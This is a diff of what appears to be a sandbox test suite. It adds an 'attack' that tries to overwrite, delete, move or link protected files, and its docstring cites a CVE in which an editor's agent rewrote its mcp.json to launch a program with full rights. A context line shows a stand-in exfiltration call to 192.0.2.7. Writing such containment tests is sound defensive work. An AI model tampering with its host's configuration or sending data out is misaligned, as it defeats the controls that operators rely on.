@@ -77,6 +77,29 @@ def writes_outside(about: dict[str, Any]) -> str:
 
 
 @attack
+def changes_what_the_host_reads(about: dict[str, Any]) -> str:
+    """A line in the configuration of its host starts a program with all rights the next time (CVE-2025-54135 of an
+    editor whose agent wrote its mcp.json); a line in the lock accepts what changed."""
+    done = []
+    for file in map(Path, about.get("kept", ())):
+        aside = file.with_name("aside")
+        for name, change in (
+            ("written", lambda file=file: file.write_text("changed")),
+            ("removed", lambda file=file: file.unlink()),
+            ("moved", lambda file=file, aside=aside: file.rename(aside)),
+            ("replaced", lambda file=file, aside=aside: (aside.write_text("changed"), aside.rename(file))),
+            ("its folder moved", lambda file=file: file.parent.rename(file.parent.with_name("elsewhere"))),
+            ("linked", lambda file=file: os.link(file, file.with_name("hard"))),
+        ):
+            try:
+                change()
+            except OSError:
+                continue
+            done.append(f"{name}: {file}")
+    return f"done: {done}" if done else "held"
+
+
+@attack
 def connects_by_address(about: dict[str, Any]) -> str:
     """Sends what it found to an address."""
     return _http("http://192.0.2.7/")
